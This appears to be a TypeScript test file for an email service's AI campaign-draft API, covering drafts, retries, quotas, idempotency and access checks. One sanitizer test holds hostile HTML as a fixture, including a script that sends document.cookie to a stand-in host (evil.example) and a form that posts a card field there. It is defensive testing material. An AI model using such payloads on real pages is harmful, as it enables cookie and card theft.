import { env } from "cloudflare:workers";
import { createExecutionContext } from "cloudflare:test";
import { describe, expect, it } from "vitest";
import { createApp } from "../../src/app";
import { audienceOf, campaignAccount } from "../support/campaigns";
import { accountIn } from "../support/databases";
import { ADMIN_TOKEN, call, createKey, d1Of, json } from "../support/helpers";
import { sendBalance, sinkMessagesTo } from "../support/sending";
import { aiAccount, aiFeatures, type AiRequest, generated, newCase, postDraft, providerRequests, requestCount, script, settled } from "../support/ai";

type Campaign = {
  id: string;
  name: string;
  status: string;
  subject: string;
  preheader: string | null;
  html: string;
  text: string;
  sender_id: string | null;
};

const nextMonthStart = () => {
  const now = new Date();
  return new Date(Date.UTC(now.getUTCFullYear(), now.getUTCMonth() + 1, 1)).toISOString().slice(0, 10);
};

const answer = (variations: unknown[], followups: unknown[] = []) => JSON.stringify({ variations, followups });
const email = (overrides: Record<string, unknown> = {}) => ({
  subject: "Spring sale",
  preheader: "Ten days only",
  html: "<p>Hello {{first_name|there}}</p>",
  text: "Hello {{first_name|there}}",
  ...overrides,
});

describe("POST /ai/campaign → GET /ai/requests/{id}", () => {
  it("queues, completes with the requested counts and saves every email as a draft campaign; nothing is sent or charged", async () => {
    const { account, key } = await campaignAccount({ sendCredits: 50 });
    await call(`/admin/v1/accounts/${account.id}`, {
      key: "test-admin-token",
      method: "PATCH",
      body: { features: aiFeatures, ai_generations_per_month: 5 },
    });
    const { addresses } = await audienceOf(key, 2);
    const caseId = newCase();

    const request = await generated(key, {
      prompt: `Announce our spring sale [case:${caseId}]`,
      tone: "friendly",
      language: "fr-CA",
      cta: "Shop now",
      length: "short",
      variations: 3,
      followups: 2,
    });

    expect(request).toMatchObject({
      status: "completed",
      error: null,
      input: { prompt: `Announce our spring sale [case:${caseId}]`, tone: "friendly", language: "fr-CA", variations: 3, followups: 2 },
      usage: { input_tokens: 120, output_tokens: 80 },
      attempts: 1,
    });
    expect(request.completed_at).toEqual(expect.any(String));
    expect(request.result!.variations).toHaveLength(3);
    expect(request.result!.followups.map((followup) => followup.delay_days)).toEqual([3, 6]);
    // The fake model gives no text: it is made from the html, placeholders and links kept.
    expect(request.result!.variations[0]!.text).toContain("Hello {{first_name|there}}");
    expect(request.result!.variations[0]!.text).toContain("See the offer [https://example.com/offer]");
    expect(request.result!.variations[0]!.text).toContain("Unsubscribe [{{unsubscribe_url}}]");
    expect(request.campaign_ids).toHaveLength(5);

    const drafts = await Promise.all(request.campaign_ids.map(async (id) => json<Campaign>(await call(`/api/v1/campaigns/${id}`, { key }))));
    const emails = [...request.result!.variations, ...request.result!.followups];
    drafts.forEach((draft, i) => {
      expect(draft).toMatchObject({ status: "draft", sender_id: null, subject: emails[i]!.subject, html: emails[i]!.html, text: emails[i]!.text });
      expect(draft.preheader).toBe(emails[i]!.preheader);
    });
    expect(drafts.map((draft) => draft.name)).toEqual([
      `AI: Announce our spring sale [case:${caseId}] — variation 1 of 3`,
      `AI: Announce our spring sale [case:${caseId}] — variation 2 of 3`,
      `AI: Announce our spring sale [case:${caseId}] — variation 3 of 3`,
      `AI: Announce our spring sale [case:${caseId}] — follow-up 1, 3 day(s) later`,
      `AI: Announce our spring sale [case:${caseId}] — follow-up 2, 6 day(s) later`,
    ]);

    // What the provider was asked: the model, the key, a JSON schema, and the brief with its counts.
    const [sent] = await providerRequests(caseId);
    expect(sent!.headers.authorization).toBe("Bearer test-ai-key");
    expect(sent!.body.model).toBe("test-model");
    expect(sent!.body.response_format).toMatchObject({ type: "json_schema", json_schema: { name: "campaign_drafts" } });
    expect(sent!.body.messages.at(-1)!.content).toContain("Write exactly 3 variation(s) and exactly 2 follow-up(s).");
    expect(sent!.body.messages.at(-1)!.content).toContain("Language: fr-CA");

    // Never sent: no message for the audience, no credit touched, the drafts stay drafts.
    const messages = await d1Of(account).prepare("SELECT count(*) AS n FROM messages WHERE account_id = ?").bind(account.id).first<{ n: number }>();
    expect(messages!.n).toBe(0);
    expect(await sendBalance(key)).toBe(50);
    for (const address of addresses) expect(await sinkMessagesTo(address)).toEqual([]);
    const listed = await json<{ data: Campaign[] }>(await call("/api/v1/campaigns?limit=100", { key }));
    expect(listed.data.map((campaign) => campaign.status)).toEqual(["draft", "draft", "draft", "draft", "draft"]);
  });

  it("removes script, event handlers and javascript:/data: URLs from the model's html and keeps the placeholders", async () => {
    const account = await aiAccount();
    const caseId = newCase();
    const html =
      '<p onclick="steal()" style="color:#333">Hi {{first_name|there}}</p><script>fetch("https://evil.example/"+document.cookie)</script>' +
      '<a href="javascript:alert(1)">Win</a><img src="data:image/png;base64,AAAA" onerror="alert(2)">' +
      '<iframe src="https://evil.example"></iframe><form action="https://evil.example"><input name="card"></form>' +
      '<style>body{display:none}</style><a href="{{unsubscribe_url}}">Unsubscribe</a>';
    await script(caseId, [{ content: answer([email({ html, text: "" })]) }]);

    const request = await generated(account.api_key, { prompt: `Newsletter [case:${caseId}]` });

    expect(request.status).toBe("completed");
    const clean = request.result!.variations[0]!.html;
    expect(clean).toBe('<p style="color:#333">Hi {{first_name|there}}</p><a>Win</a><img /><a href="{{unsubscribe_url}}">Unsubscribe</a>');
    const draft = await json<Campaign>(await call(`/api/v1/campaigns/${request.campaign_ids[0]}`, { key: account.api_key }));
    expect(draft.html).toBe(clean);
    expect(draft.text).toBe("Hi {{first_name|there}}\n\nWinUnsubscribe [{{unsubscribe_url}}]");
  });

  it("asks again once with the validation errors after a malformed answer, then completes", async () => {
    const account = await aiAccount();
    const caseId = newCase();
    await script(caseId, [{ content: "Sure! Here are your emails: {not json" }]);

    const request = await generated(account.api_key, { prompt: `Welcome series [case:${caseId}]`, variations: 2 });

    expect(request).toMatchObject({ status: "completed", attempts: 1, usage: { input_tokens: 240, output_tokens: 160 } });
    expect(request.result!.variations).toHaveLength(2);
    const calls = await providerRequests(caseId);
    expect(calls).toHaveLength(2);
    const retry = calls[1]!.body.messages;
    expect(retry.at(-2)).toEqual({ role: "assistant", content: "Sure! Here are your emails: {not json" });
    expect(retry.at(-1)!.role).toBe("user");
    expect(retry.at(-1)!.content).toContain("The answer is not valid JSON");
  });

  it("fails with a clear error when the second answer is malformed too, and the failure does not count", async () => {
    const account = await aiAccount(1);
    const caseId = newCase();
    // Valid JSON, wrong counts and a two-line subject: the retry message names each problem.
    const wrong = answer([email({ subject: "Line one\nline two" })], [email()]);
    await script(caseId, [{ content: wrong }, { content: wrong }]);

    const request = await generated(account.api_key, { prompt: `Launch [case:${caseId}]`, variations: 2 });

    expect(request.status).toBe("failed");
    expect(request.error).toMatch(/^The model's answer was malformed twice: /);
    expect(request.error).toContain("variations: Exactly 2 variation(s)");
    expect(request.campaign_ids).toEqual([]);
    expect(request.result).toBeNull();
    const calls = await providerRequests(caseId);
    expect(calls[1]!.body.messages.at(-1)!.content).toContain("variations.0.subject: The subject must be one line");
    expect(calls[1]!.body.messages.at(-1)!.content).toContain("followups: Exactly 0 follow-up(s)");

    const me = await json<{ ai_usage: Record<string, unknown> }>(await call("/api/v1/me", { key: account.api_key }));
    expect(me.ai_usage).toEqual({ limit: 1, used: 0, in_progress: 0, resets_at: `${nextMonthStart()}T00:00:00.000Z` });
    // The failed one gave its place back: a limit of 1 still admits the next request.
    expect((await postDraft(account.api_key, { prompt: "Again" })).status).toBe(202);
  });

  it("retries a 429 through the queue, then completes", async () => {
    const account = await aiAccount();
    const caseId = newCase();
    await script(caseId, [{ status: 429, body: JSON.stringify({ error: { message: "Rate limit reached" } }) }]);

    const request = await generated(account.api_key, { prompt: `Offer [case:${caseId}]` });

    expect(request).toMatchObject({ status: "completed", attempts: 2, error: null });
    expect(await providerRequests(caseId)).toHaveLength(2);
  });

  it("retries a provider that does not answer in time, then completes", async () => {
    const account = await aiAccount();
    const caseId = newCase();
    await script(caseId, [{ delay_ms: 3_000 }]);

    const request = await generated(account.api_key, { prompt: `Slow [case:${caseId}]` });

    expect(request).toMatchObject({ status: "completed", attempts: 2 });
  });

  it("fails after AI_MAX_ATTEMPTS when the provider keeps answering 5xx", async () => {
    const account = await aiAccount();
    const caseId = newCase();
    const outage = { status: 503, body: JSON.stringify({ error: { message: "overloaded" } }) };
    await script(caseId, [outage, outage, outage, outage]);

    const request = await generated(account.api_key, { prompt: `Outage [case:${caseId}]` });

    expect(request).toMatchObject({
      status: "failed",
      attempts: 4,
      error: "The AI provider answered 503: overloaded (gave up after 4 attempts)",
      campaign_ids: [],
    });
  });

  it("fails at once, without retrying, when the provider refuses the request (401)", async () => {
    const account = await aiAccount();
    const caseId = newCase();
    await script(caseId, [{ status: 401, body: JSON.stringify({ error: { message: "Incorrect API key provided" } }) }]);

    const request = await generated(account.api_key, { prompt: `Key [case:${caseId}]` });

    expect(request).toMatchObject({ status: "failed", attempts: 1, error: "The AI provider refused the request (401): Incorrect API key provided" });
  });
});

describe("quota", () => {
  it("answers 403 ai_quota_exceeded with the reset date once the month's generations are used, and queues nothing", async () => {
    const account = await aiAccount(1);
    const first = await generated(account.api_key, { prompt: "First" });
    expect(first.status).toBe("completed");
    const caseId = newCase();

    const refused = await postDraft(account.api_key, { prompt: `Second [case:${caseId}]` });

    expect(refused.status).toBe(403);
    expect(await json(refused)).toEqual({
      code: "ai_quota_exceeded",
      message: `This month's AI generations (1, counting requests still queued or running) are used up; the quota resets on ${nextMonthStart()} (UTC)`,
    });
    expect(await requestCount(account.id)).toBe(1);
    expect(await providerRequests(caseId)).toEqual([]);
    const me = await json<{ limits: Record<string, number>; ai_usage: Record<string, unknown> }>(await call("/api/v1/me", { key: account.api_key }));
    expect(me.limits.ai_generations_per_month).toBe(1);
    expect(me.ai_usage).toMatchObject({ limit: 1, used: 1, in_progress: 0 });
  });

  it("follows the operator's change of the limit for an account in ACCOUNT_DB_1 (the quota is counted in its database)", async () => {
    const account = await accountIn("ACCOUNT_DB_1", { features: aiFeatures, ai_generations_per_month: 1 });
    expect((await generated(account.api_key, { prompt: "First" })).status).toBe("completed");
    expect((await postDraft(account.api_key, { prompt: "Second" })).status).toBe(403);

    const raised = await call(`/admin/v1/accounts/${account.id}`, { key: ADMIN_TOKEN, method: "PATCH", body: { ai_generations_per_month: 2 } });
    expect(raised.status).toBe(200);
    expect((await postDraft(account.api_key, { prompt: "Second" })).status).toBe(202);
    expect(await requestCount(account.id)).toBe(2);
  });

  it("lets exactly one of ten concurrent POSTs through a limit of 1", async () => {
    const account = await aiAccount(1);
    const responses = await Promise.all(Array.from({ length: 10 }, (_, i) => postDraft(account.api_key, { prompt: `Race ${i}` })));
    const statuses = responses.map((response) => response.status).sort();
    expect(statuses).toEqual([202, 403, 403, 403, 403, 403, 403, 403, 403, 403]);
    expect(await requestCount(account.id)).toBe(1);
    const accepted = await json<{ id: string }>(responses.find((response) => response.status === 202)!);
    expect((await settled(account.api_key, accepted.id)).status).toBe("completed");
  });

  it("refuses every request of an account whose limit is 0 (the column's default for accounts created before AI drafts)", async () => {
    const account = await aiAccount(0);
    const refused = await postDraft(account.api_key, { prompt: "Hello" });
    expect(refused.status).toBe(403);
    expect(await json(refused)).toMatchObject({ code: "ai_quota_exceeded" });
  });

  it("gives new accounts their plan's monthly AI generations; the operator can change them", async () => {
    const free = await json<{ id: string; limits: Record<string, number> }>(
      await call("/admin/v1/accounts", { key: "test-admin-token", body: { name: "Free" } }),
    );
    expect(free.limits.ai_generations_per_month).toBe(10);
    const starter = await call(`/admin/v1/accounts/${free.id}`, { key: "test-admin-token", method: "PATCH", body: { plan: "starter" } });
    expect((await json<{ limits: Record<string, number> }>(starter)).limits.ai_generations_per_month).toBe(100);
    const custom = await call(`/admin/v1/accounts/${free.id}`, { key: "test-admin-token", method: "PATCH", body: { ai_generations_per_month: 3 } });
    expect((await json<{ limits: Record<string, number> }>(custom)).limits.ai_generations_per_month).toBe(3);
  });
});

/** POST /ai/campaign as a request for an app built with another env (a refusing queue, no provider). */
const draftRequest = (key: string, headers: Record<string, string> = {}) =>
  new Request("http://localhost/api/v1/ai/campaign", {
    method: "POST",
    headers: { Authorization: `Bearer ${key}`, "Content-Type": "application/json", ...headers },
    body: JSON.stringify({ prompt: "Hello" }),
  });

describe("Idempotency-Key", () => {
  it("replays the first answer for the same key and body, without a second generation or quota use; 409 for another body", async () => {
    const account = await aiAccount(1);
    const body = { prompt: "Spring sale" };
    const headers = { "Idempotency-Key": "draft-1042" };

    const [first, second] = await Promise.all([
      call("/api/v1/ai/campaign", { key: account.api_key, body, headers }),
      call("/api/v1/ai/campaign", { key: account.api_key, body, headers }),
    ]);
    expect([first.status, second.status]).toEqual([202, 202]);
    const accepted = await json<{ id: string; status: string }>(first);
    expect(await json(second)).toEqual(accepted);
    expect(await requestCount(account.id)).toBe(1);
    expect((await settled(account.api_key, accepted.id)).status).toBe("completed");

    // The month's only generation is used, yet the retry gets its answer back rather than a 403.
    const retried = await call("/api/v1/ai/campaign", { key: account.api_key, body, headers });
    expect(retried.status).toBe(202);
    expect(retried.headers.get("Idempotent-Replayed")).toBe("true");
    expect(await json(retried)).toEqual({ id: accepted.id, status: "queued" });
    const me = await json<{ ai_usage: Record<string, unknown> }>(await call("/api/v1/me", { key: account.api_key }));
    expect(me.ai_usage).toMatchObject({ limit: 1, used: 1, in_progress: 0 });

    const conflict = await call("/api/v1/ai/campaign", { key: account.api_key, body: { prompt: "Summer sale" }, headers });
    expect(conflict.status).toBe(409);
    expect(await json(conflict)).toEqual({
      code: "idempotency_conflict",
      message: "This Idempotency-Key was already used with a different request body",
    });
    expect(await requestCount(account.id)).toBe(1);
  });

  it("frees the key when the queue refuses the request, so the retry is queued", async () => {
    const account = await aiAccount(1);
    const refusing = { send: async () => Promise.reject(new Error("queue unavailable")) } as unknown as Queue;
    const request = () => draftRequest(account.api_key, { "Idempotency-Key": "draft-7" });
    const refused = await createApp().request(request(), undefined, { ...env, AI_QUEUE: refusing }, createExecutionContext());
    expect(refused.status).toBe(503);

    const retried = await createApp().request(request(), undefined, env, createExecutionContext());
    expect(retried.status).toBe(202);
    expect(retried.headers.get("Idempotent-Replayed")).toBeNull();
    const { id } = await json<{ id: string }>(retried);
    expect((await settled(account.api_key, id)).status).toBe("completed");
  });
});

describe("configuration", () => {
  it("answers 503 ai_not_configured at once when no provider is configured, and stores nothing", async () => {
    const account = await aiAccount();
    const response = await createApp().request(draftRequest(account.api_key), undefined, { ...env, AI_BASE_URL: "" }, createExecutionContext());
    expect(response.status).toBe(503);
    expect(await json(response)).toEqual({
      code: "ai_not_configured",
      message: "AI drafts are not available on this deployment: neither AI_BASE_URL nor an `AI` Workers AI binding is configured",
    });
    expect(await requestCount(account.id)).toBe(0);
  });

  it("answers 503 when AI_BASE_URL is set without AI_MODEL", async () => {
    const account = await aiAccount();
    const response = await createApp().request(draftRequest(account.api_key), undefined, { ...env, AI_MODEL: "" }, createExecutionContext());
    expect(response.status).toBe(503);
    expect(await json(response)).toMatchObject({ code: "ai_not_configured", message: expect.stringContaining("AI_MODEL is not") });
  });

  it("answers 503 when the queue refuses the request, which then fails and gives its quota back", async () => {
    const account = await aiAccount(1);
    const refusing = { send: async () => Promise.reject(new Error("queue unavailable")) } as unknown as Queue;
    const response = await createApp().request(draftRequest(account.api_key), undefined, { ...env, AI_QUEUE: refusing }, createExecutionContext());
    expect(response.status).toBe(503);
    expect(await json(response)).toMatchObject({ code: "upstream_unavailable" });
    const listed = await json<{ data: AiRequest[] }>(await call("/api/v1/ai/requests", { key: account.api_key }));
    expect(listed.data).toMatchObject([{ status: "failed", error: "The request could not be queued" }]);
    expect((await postDraft(account.api_key, { prompt: "Again" })).status).toBe(202);
  });
});

describe("access", () => {
  it("answers 404 for another account's request", async () => {
    const owner = await aiAccount();
    const other = await aiAccount();
    const request = await generated(owner.api_key, { prompt: "Mine" });
    const response = await call(`/api/v1/ai/requests/${request.id}`, { key: other.api_key });
    expect(response.status).toBe(404);
    expect(await json(response)).toEqual({ code: "not_found", message: "AI request not found" });
    expect((await json<{ data: unknown[] }>(await call("/api/v1/ai/requests", { key: other.api_key }))).data).toEqual([]);
  });

  it("needs the ai scope", async () => {
    const account = await aiAccount();
    const campaignsOnly = await createKey(account.api_key, { name: "campaigns", scopes: ["campaigns"] });
    const aiOnly = await createKey(account.api_key, { name: "ai", scopes: ["ai"] });
    for (const [method, path] of [
      ["POST", "/api/v1/ai/campaign"],
      ["GET", "/api/v1/ai/requests"],
      ["GET", "/api/v1/ai/requests/air_x"],
    ] as const) {
      const response = await call(path, { key: campaignsOnly.key, method, body: method === "POST" ? { prompt: "Hi" } : undefined });
      expect(response.status).toBe(403);
      expect(await json(response)).toEqual({ code: "scope_missing", message: "This API key lacks the `ai` scope" });
    }
    expect((await postDraft(aiOnly.key, { prompt: "Hi" })).status).toBe(202);
    expect(await requestCount(account.id)).toBe(1);
  });

  it("needs the ai and campaigns features, and a live key", async () => {
    const noAi = await aiAccount(10, { features: ["email_api", "campaigns"] });
    const refused = await postDraft(noAi.api_key, { prompt: "Hi" });
    expect(refused.status).toBe(403);
    expect(await json(refused)).toMatchObject({ code: "feature_disabled", message: expect.stringContaining("ai") });

    const account = await aiAccount();
    const testKey = await createKey(account.api_key, { name: "test", mode: "test" });
    const fromTestKey = await postDraft(testKey.key, { prompt: "Hi" });
    expect(fromTestKey.status).toBe(403);
    expect(await json(fromTestKey)).toMatchObject({ code: "live_key_required" });
    expect(await requestCount(account.id)).toBe(0);
  });

  it("validates the request: 422 with the field paths", async () => {
    const account = await aiAccount();
    const response = await postDraft(account.api_key, {
      prompt: "x".repeat(4_001),
      variations: 6,
      followups: 4,
      length: "huge",
      language: "not a tag",
      extra: true,
    });
    expect(response.status).toBe(422);
    const body = await json<{ code: string; errors: Record<string, string[]> }>(response);
    expect(body.code).toBe("validation_failed");
    expect(Object.keys(body.errors).sort()).toEqual(["body", "followups", "language", "length", "prompt", "variations"]);
    expect((await postDraft(account.api_key, {})).status).toBe(422);
    expect(await requestCount(account.id)).toBe(0);
  });
});
